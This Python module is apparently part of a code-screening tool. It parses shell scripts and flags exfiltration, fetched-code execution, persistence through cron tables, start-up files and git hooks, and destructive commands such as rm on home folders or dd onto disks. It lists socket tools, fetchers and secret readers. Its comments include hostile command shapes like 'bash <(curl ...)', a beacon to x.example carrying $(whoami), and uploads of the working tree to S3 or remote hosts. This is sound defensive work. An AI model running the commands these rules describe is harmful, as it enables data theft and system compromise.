"""Shell judged by what it runs (see :mod:`.code_effects`): read as pipelines of commands
(:mod:`.shell_syntax`), the strings it runs (``sh -c``, ``eval``) parsed in turn, and what it
puts where it runs again judged by :mod:`.footholds`."""

from __future__ import annotations

import functools
import re
from collections.abc import Iterator
from typing import Any

from langgraph_mtl.hygiene.screening.code_targets import (
    HOME,
    MAX_CODE_CHARS,
    PERSISTENT,
    SHARED,
    host_of,
    names_this_host,
    remote_host,
    this_network,
    touches_secret,
)
from langgraph_mtl.hygiene.screening.footholds import (
    CRON,
    SHELL_STARTUP,
    cron_command,
    sets_foothold,
)
from langgraph_mtl.hygiene.screening.shell_syntax import Command, parse, pipelines

__all__ = ["judges_sending", "shell_effects", "shows_start_up_write", "writes_foothold"]

_FETCHERS = {"curl", "wget", "fetch", "aria2c", "http", "https", "httpie", "xh"}
_INTERPRETERS = {
    "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python2", "python3", "perl", "ruby",
    "node", "php", "pwsh", "powershell", "source", ".", "eval",
}  # fmt: skip
_SOCKETS = {"nc", "ncat", "netcat", "socat", "telnet", "ftp", "tftp"}
_MAILERS = {"mail", "mailx", "sendmail", "mutt", "msmtp"}
_COPIERS = {"scp", "rsync", "sftp", "rclone"}
_READERS = {
    "cat", "base64", "xxd", "od", "tar", "zip", "gzip", "bzip2", "xz", "head", "tail", "less",
    "more", "strings", "gpg", "openssl", "cp", "dd", "tac", "sort", "grep", "awk", "sed", "jq",
}  # fmt: skip
_ENV_DUMPS = {"env", "printenv", "export", "declare", "set", "compgen"}
_SCHEDULERS = {"update-rc.d", "chkconfig", "launchctl"}

_DEVICE = re.compile(r"^/dev/(?:sd|hd|nvme|xvd|vd|disk|mmcblk)")


def shell_effects(script: str, depth: int = 0) -> set[str]:
    """The harmful effects of a shell script (see the module docstring)."""
    if depth > 3 or not script.strip():
        return set()
    source = script.encode("utf-8", "replace")[:MAX_CODE_CHARS]
    tree = parse(source)
    found: set[str] = set()
    fetched_files: set[str] = set()
    for pipeline in pipelines(tree.root_node, source):
        found |= _pipeline_effects(pipeline, fetched_files, depth)
    return found


@functools.lru_cache(maxsize=256)
def judges_sending(script: str) -> bool:
    """Whether ``script`` parses as shell holding a command whose sending this module judges
    (a fetcher, a copier, a socket tool, a mailer, ssh): whether a secret goes with it is
    then decided here, from what flows into it, not from the words around it."""
    source = script.encode("utf-8", "replace")[:MAX_CODE_CHARS]
    network = _FETCHERS | _COPIERS | _SOCKETS | _MAILERS | {"ssh"}
    return any(
        command.name in network or _cloud_copy(command)
        for pipeline in pipelines(parse(source).root_node, source)
        for command in pipeline
    )


def _sends(command: Command) -> bool:
    """Whether a command sends data to a host other than this one."""
    name, args = command.name, command.args
    if any(w.startswith("/dev/tcp/") or w.startswith("/dev/udp/") for w in command.writes):
        return True
    remote = any(remote_host(a) for a in args)
    if name in _FETCHERS:
        data = any(
            a in ("-d", "-F", "-T", "--form", "--upload-file", "--post-data", "--post-file",
                  "--body-file", "--body-data", "--json", "--data-urlencode", "--data-binary",
                  "--data-raw", "--data")
            or a.startswith(("--data", "--post-", "--upload", "--form", "--json", "-d@", "-F"))
            or a.upper() in ("POST", "PUT", "PATCH", "--METHOD=POST", "--METHOD=PUT")
            for a in args
        )  # fmt: skip
        return remote and data
    if name == "openssl":
        return "s_client" in args and remote
    if name in _SOCKETS or name in _MAILERS:
        return (
            name in _MAILERS
            or remote
            or any(re.fullmatch(r"\d{1,3}(\.\d{1,3}){3}", a) for a in args)
        )
    if name in _COPIERS:
        return any(remote_host(a) for a in args[1:] if ":" in a)
    if _cloud_copy(command):
        return True
    if name == "ssh":
        return remote
    return False


def _written(command: Command) -> list[str]:
    """The files a command writes: its redirections, ``tee``'s, ``sed -i``'s, a copy's
    target and a download's file."""
    name, args = command.name, command.args
    targets = list(command.writes)
    if name == "tee":
        targets += [a for a in args if not a.startswith("-")]
    if name == "sed" and any(a.startswith("-i") for a in args):
        targets += args[-1:]
    if name in ("cp", "mv", "install", "ln", "rsync") and len(args) >= 2:
        targets.append(args[-1])
    if name in _FETCHERS:
        targets += _fetched_to(args)
    return targets


def _fetched_to(args: list[str]) -> list[str]:
    """The files a fetcher saves to (``-o``, ``-O``, ``--output``)."""
    return [args[args.index(f) + 1] for f in ("-o", "-O", "--output") if f in args[:-1]]


def _output(command: Command) -> str | None:
    """The text a command puts out, where the command shows it (``echo``, ``printf``, a
    here-document to ``cat`` or ``tee``, an existing cron table listed); None when unknown."""
    if command.name in ("echo", "printf") and not command.inner:
        words = [a for a in command.args if not (a.startswith("-") and len(a) <= 3)]
        return "\n".join(words).replace("\\n", "\n")
    if command.given and command.name in ("cat", "tee"):
        return "\n".join(command.given)
    if command.name == "crontab" and "-l" in command.args:
        return ""
    return None


def _persisted(command: Command, upstream: str | None) -> str | None:
    """The text a command writes to a file, when it is known."""
    if command.name in ("echo", "printf") or command.given:
        return _output(command)
    if command.name in ("tee", "cat", "crontab"):
        return upstream
    return None


def _persists(command: Command, upstream: str | None, depth: int) -> bool:
    """Whether a command persists a foothold: it writes a shell start-up file, a git hook or
    a cron table with code that sets one (see :mod:`.footholds`) or with code that cannot be
    seen, writes any other start-up file, or registers a job, a hooks folder outside the
    project or a shell alias in git."""
    name, args = command.name, command.args
    joined = " ".join(args)
    targets = [t for t in _written(command) if PERSISTENT.search(t)]
    if name == "crontab" and any(a == "-" or not a.startswith("-") for a in args):
        targets.append("crontab" if "-" in args else args[-1])
    content = _persisted(command, upstream)
    return (
        any(writes_foothold(target, content, depth) for target in targets)
        or name in _SCHEDULERS
        or (name == "git" and "config" in args and _hooks_elsewhere(args))
        or (name == "git" and "config" in args and bool(re.search(r"alias\.\S+\s+!", joined)))
    )


@functools.lru_cache(maxsize=256)  # every rule match on one line asks about that line
def shows_start_up_write(line: str) -> bool:
    """Whether ``line`` is shell, without a comment, that writes a shell start-up file, hook
    or cron table with the text in view: :func:`writes_foothold` judges it by that text, so
    the words of the text are not a sentence about start-up files."""
    source = line.encode("utf-8", "replace")[:MAX_CODE_CHARS]
    tree = parse(source)
    if tree.root_node.has_error or _has_comment(tree.root_node):
        return False
    for pipeline in pipelines(tree.root_node, source):
        for command, upstream in _with_upstream(pipeline):
            targets = [t for t in _written(command) if SHELL_STARTUP.search(t) or CRON.search(t)]
            if command.name == "crontab" and "-" in command.args:
                targets.append("crontab")
            if targets and _persisted(command, upstream) is not None:
                return True
    return False


def _with_upstream(pipeline: list[Command]) -> Iterator[tuple[Command, str | None]]:
    """Each command of a pipeline with the text the commands before it put out, when every
    one of them shows it (None for the first command, or once one does not)."""
    shown: str | None = None
    for index, command in enumerate(pipeline):
        yield command, shown if index else None
        output = _output(command)
        unknown = output is None or (index and shown is None)
        shown = None if unknown else f"{shown}\n{output}" if shown else output


def _has_comment(node: Any) -> bool:
    return node.type == "comment" or any(_has_comment(child) for child in node.children)


def writes_foothold(target: str, content: str | None, depth: int = 0) -> bool:
    """Whether writing ``content`` (None when it is not shown) to the start-up file
    ``target`` persists a foothold: a shell start-up file, hook or cron table is judged by the
    code it is given (:mod:`.footholds`), any other start-up file by the write alone."""
    if content is None or not (SHELL_STARTUP.search(target) or CRON.search(target)):
        return True
    if CRON.search(target):
        system = "etc/" in target  # a system table names the user before the command
        lines = [cron_command(line, system) for line in content.splitlines()]
        content = "\n".join(line for line in lines if not line.lstrip().startswith("#"))
    return sets_foothold(content) or bool(shell_effects(content, depth + 1))


def _hooks_elsewhere(args: list[str]) -> bool:
    """Whether ``git config core.hooksPath`` points outside the project (a folder in the
    repository, ``.githooks``, is the project's own hooks)."""
    lowered = [a.lower() for a in args]
    if "core.hookspath" not in lowered:
        return False
    after = args[lowered.index("core.hookspath") + 1 :]
    path = after[0] if after else ""
    return not path or path.startswith(("/", "~", "$")) or ".." in path.split("/")


def _destroys(command: Command) -> bool:
    """Whether a command removes the root or home folder (rm, git clean, find -delete, shred),
    overwrites a disk or opens the whole tree to everyone."""
    name, args = command.name, command.args
    recursive = any(a.startswith("-") and ("r" in a.lower() or a == "--recursive") for a in args)
    everything = any(HOME.match(a) or a in ("/*", "~/*", "$HOME/*") for a in args)
    return (
        (name == "rm" and recursive and (everything or "--no-preserve-root" in args))
        or (name == "git" and args[:1] == ["clean"] and everything)  # git clean -xfd ~
        or (name in ("find", "shred", "wipe", "srm") and everything and _deletes(name, args))
        or name.startswith("mkfs")
        or (name == "dd" and any(a.startswith("of=") and _DEVICE.match(a[3:]) for a in args))
        or any(_DEVICE.match(w) for w in command.writes)
        or (name in ("chmod", "chown") and "-R" in args and everything)
    )


def _deletes(name: str, args: list[str]) -> bool:
    """Whether a find, shred or wipe command deletes what it reaches."""
    return name != "find" or "-delete" in args or "rm" in args


def _stages_secret(command: Command) -> bool:
    """Whether a command copies a secret to a shared place."""
    if command.name not in ("cp", "mv", "install", "ln", "rsync") or len(command.args) < 2:
        return False
    sources = [a for a in command.args[:-1] if not a.startswith("-")]
    return touches_secret(sources) and bool(SHARED.match(command.args[-1]))


def _runs_inner(command: Command, depth: int) -> set[str]:
    """The effects of code a command carries: its command substitutions, ``sh -c`` and
    ``python -c`` strings and the here-documents it is given, and what running fetched code
    inside them means."""
    found: set[str] = set()
    for inner in command.inner:
        found |= shell_effects(inner, depth + 1)
        words = inner.split()
        if words and words[0] in _FETCHERS and command.name in _INTERPRETERS:
            found.add("remote-exec")  # bash <(curl ...), eval "$(curl ...)"
        secret = words and (words[0] in _ENV_DUMPS or touches_secret(words))
        if secret and _sends(command):
            found.add("exfiltration")
    args = command.args
    code = args[args.index("-c") + 1] if "-c" in args[:-1] else ""
    codes = [code, *command.given]  # a here-document or here-string given to it is run too
    if command.name in ("sh", "bash", "zsh", "dash"):
        for text in codes:
            found |= shell_effects(text, depth + 1)
    if command.name.startswith("python"):
        # Python's judge parses the shell it runs in turn: imported here, not at the top
        from langgraph_mtl.hygiene.screening.python_effects import python_effects

        for text in codes:
            found |= python_effects(text, depth + 1)
    return found


_TREES = {".", "./", "*", "..", "~", "~/", "$HOME", "${HOME}", "$HOME/", "/", "$PWD", "$(pwd)"}


def _off_network(arg: str) -> bool:
    """Whether ``arg`` names a host off this machine and its private network."""
    return remote_host(arg) and not this_network(host_of(arg), bare_names=True)


# a cloud store's address: a bucket is off this network whatever its name
_CLOUD_STORE = ("s3://", "gs://", "az://", "wasb://", "wasbs://", "abfs://", "abfss://", "r2://")
# the cloud tools' copying subcommands ("aws s3 sync . s3://bucket", "gsutil cp -r . gs://b")
_CLOUD_COPIES = {
    "aws": (("s3", "cp"), ("s3", "sync"), ("s3", "mv")),
    "gsutil": (("cp",), ("rsync",), ("mv",)),
    "gcloud": (("storage", "cp"), ("storage", "rsync")),
    "azcopy": (("copy",), ("cp",), ("sync",)),
}


def _positional(command: Command) -> list[str]:
    """A command's arguments that are not options: its subcommands and paths."""
    return [a for a in command.args if not a.startswith("-")]


def _cloud_copy(command: Command) -> bool:
    """Whether a command is a cloud tool's copy into a store: its last path is the store's
    address (``aws s3 cp s3://bucket/x .`` reads from one)."""
    words = _positional(command)
    copies = any(tuple(words[: len(sub)]) == sub for sub in _CLOUD_COPIES.get(command.name, ()))
    return copies and (words[-1].startswith(_CLOUD_STORE) or "blob.core.windows.net" in words[-1])


def _uploads_tree(command: Command) -> bool:
    """Whether a copier sends the working tree or the home folder off the network
    (``scp -r . user@203.0.113.7:/srv``, ``aws s3 sync . s3://bucket``; ``rsync -a ./
    backup-host:/srv`` stays inside)."""
    paths = _positional(command)
    if _cloud_copy(command):
        return any(p in _TREES for p in paths[:-1])
    if command.name not in _COPIERS:
        return False
    remote = [i for i, a in enumerate(paths) if ":" in a and remote_host(a)]
    return bool(remote) and (
        any(p in _TREES for p in paths[: remote[0]]) and _off_network(paths[remote[0]])
    )


def _beacons(command: Command) -> bool:
    """Whether a fetcher calls a host off the network with this host's identity in the
    address (``curl https://x.example/ping?u=$(whoami)``)."""
    return command.name in _FETCHERS and any(
        "://" in a and names_this_host(a) and _off_network(a) for a in command.args
    )


def _reads_secret(command: Command) -> bool:
    """Whether a command puts secrets on its output: the environment, or a secret file."""
    name, args = command.name, command.args
    if name in _ENV_DUMPS and not any(a.startswith(("-", "PATH=")) and a != "-p" for a in args):
        return True
    return (name in _READERS or bool(command.reads)) and touches_secret(args + command.reads)


def _pipeline_effects(pipeline: list[Command], fetched: set[str], depth: int) -> set[str]:
    found: set[str] = set()
    secret_flowing = False  # secrets read upstream flow down the pipeline
    for index, (command, shown) in enumerate(_with_upstream(pipeline)):
        name, args = command.name, command.args
        found |= _runs_inner(command, depth)
        secret_flowing = secret_flowing or _reads_secret(command)
        if _sends(command) and (secret_flowing or touches_secret(args)):
            found.add("exfiltration")
        if _stages_secret(command) or _uploads_tree(command) or _beacons(command):
            found.add("exfiltration")
        upstream = pipeline[index - 1].name if index else ""
        if name in _INTERPRETERS and (upstream in _FETCHERS or upstream == "base64"):
            found.add("remote-exec")  # fetched or decoded code run
        if name in _FETCHERS:
            fetched.update([*_fetched_to(args), *command.writes])
        ran = args[0] if name in _INTERPRETERS and args else name
        if ran.lstrip("./") in {f.lstrip("./") for f in fetched}:
            found.add("remote-exec")
        if _persists(command, shown, depth):
            found.add("persistence")
        if _destroys(command):
            found.add("destructive")
    return found
